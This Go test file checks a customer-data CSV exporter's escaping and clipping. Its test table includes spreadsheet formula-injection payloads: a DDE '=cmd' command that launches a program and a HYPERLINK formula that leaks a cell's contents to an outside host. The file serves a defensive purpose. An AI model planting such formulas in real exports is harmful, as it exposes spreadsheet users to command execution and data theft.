package platform

import (
	"encoding/csv"
	"math"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"pgregory.net/rapid"
)

// Survival: what came in names and once broke an importer or a spreadsheet, and
// what a CSV reader finds of it.
var hostile = []struct{ raw, want string }{
	{`Mary "Ann"`, `Mary "Ann"`},
	{`"`, `"`},
	{`a,b;c|d`, `a,b;c|d`},
	{"two\nlines", "two\nlines"},
	{"two\r\nlines", "two\nlines"},
	{"two\r\r\nlines", "two\nlines"},
	{"two\r\x00\nlines", "two\nlines"},
	{"old\rMac", "old\rMac"},
	{`=HYPERLINK("http://x.example/?"&A1,"click")`, `'=HYPERLINK("http://x.example/?"&A1,"click")`},
	{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
	{"+1+1", "'+1+1"},
	{"-1+1", "'-1+1"},
	{"@SUM(A1)", "'@SUM(A1)"},
	{"\t=1", "'\t=1"},
	{"\r=1", "'\r=1"},
	{"\n=1", "'\n=1"},
	{" =1", "'=1"},
	{"\u00a0=1", "'=1"},
	{"\x00=1", "'=1"},
	{"nul\x00byte", "nulbyte"},
	{"bell\a", "bell"},
	{"bad\xff\xfebytes", "bad\ufffdbytes"},
	{"👩‍👩‍👧‍👦 family", "👩‍👩‍👧‍👦 family"},
	{"עברית, \"ימין\"", "עברית, \"ימין\""},
	{"\u202eevil", "\u202eevil"},
	{"مرحبا", "مرحبا"},
	{" spaces around ", "spaces around"},
	{`'quoted'`, `'quoted'`},
	{`\N`, `\N`},
	{`\`, `\`},
	{"NULL", "NULL"},
	{"\ufeffbom", "\ufeffbom"},
	{"007", "007"},
	{strings.Repeat("ä", 150), strings.Repeat("ä", 150)},
	{"", ""},
	{"   ", ""},
}

func TestHostileTextsSurviveACSVReader(t *testing.T) {
	spec := specOf(t, "klaviyo")
	spec.Attributes = []Attribute{{"segment", Text}}
	var people []Person
	for i, h := range hostile {
		people = append(people, Person{
			CustomerID: string(rune('a'+i%26)) + strings.Repeat("x", i), Email: "c" + strings.Repeat("x", i) + "@example.com",
			FirstName: h.raw, ConsentEmail: Granted, Attributes: []Cell{TextCell(h.raw)},
		})
	}
	result, files := mustExport(t, spec, people)
	header, rows := files.cells(t, result)
	first, segment := slices.Index(header, "First Name"), slices.Index(header, "segment")
	for i, h := range hostile {
		if rows[i][first] != h.want || rows[i][segment] != h.want {
			t.Errorf("%q: read as %q and %q, not %q", h.raw, rows[i][first], rows[i][segment], h.want)
		}
	}
}

// Mailchimp clips at 255 bytes, and what it would cut in two, we cut before.
func TestMailchimpTextsAreClippedBetweenRunes(t *testing.T) {
	spec := specOf(t, "mailchimp")
	people := []Person{
		{CustomerID: "1", Email: "a@example.com", ConsentEmail: Granted, FirstName: strings.Repeat("x", 300), LastName: strings.Repeat("é", 150)},
		{CustomerID: "2", Email: "b@example.com", ConsentEmail: Granted, FirstName: "=" + strings.Repeat("👍", 75), LastName: strings.Repeat("x", 255)},
	}
	result, files := mustExport(t, spec, people)
	_, rows := files.cells(t, result)
	for i, want := range [][]string{
		{strings.Repeat("x", 255), strings.Repeat("é", 127)},
		{"'=" + strings.Repeat("👍", 63), strings.Repeat("x", 255)},
	} {
		if !slices.Equal(rows[i][1:3], want) {
			t.Errorf("%q, not %q", rows[i][1:3], want)
		}
	}
	if n := result.Blanked["First Name"][Clipped]; n != 2 {
		t.Errorf("%d first names were clipped", n)
	}
}

// Any text comes back from a CSV reader as the safe text it became, which no
// spreadsheet takes for a formula.
func TestAnyTextSurvivesACSVReader(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		raw := rapid.OneOf(rapid.String(), rapid.StringMatching("[=+@\t\r\n\" ,'\x00-]{0,3}.{0,5}"), rapid.Map(rapid.SliceOf(rapid.Byte()), func(b []byte) string { return string(b) })).Draw(t, "raw")
		clip := rapid.IntRange(0, 20).Draw(t, "clip")
		cell, _ := freeText(raw, clip)
		if !utf8.ValidString(cell) || clip > 0 && len(cell) > clip || cell != "" && strings.IndexByte("=+-@\t\r\n", cell[0]) >= 0 {
			t.Fatalf("%q: %q", raw, cell)
		}
		records, err := csv.NewReader(strings.NewReader(string(appendRecord(nil, ',', "key", cell)))).ReadAll()
		if err != nil || len(records) != 1 || !slices.Equal(records[0], []string{"key", cell}) {
			t.Fatalf("%q: %q, %v", cell, records, err)
		}
	})
}

func TestNumbersHaveNoExponent(t *testing.T) {
	for number, want := range map[float64]string{0: "0", -1.5: "-1.5", 1e21: "1000000000000000000000", 1e-7: "0.0000001", 12.34: "12.34"} {
		if got := string(appendNumber(nil, number)); got != want {
			t.Errorf("%g: %s", number, got)
		}
	}
	if got := string(appendNumber(nil, math.Copysign(0, -1))); got != "0" {
		t.Errorf("-0: %s", got)
	}
}
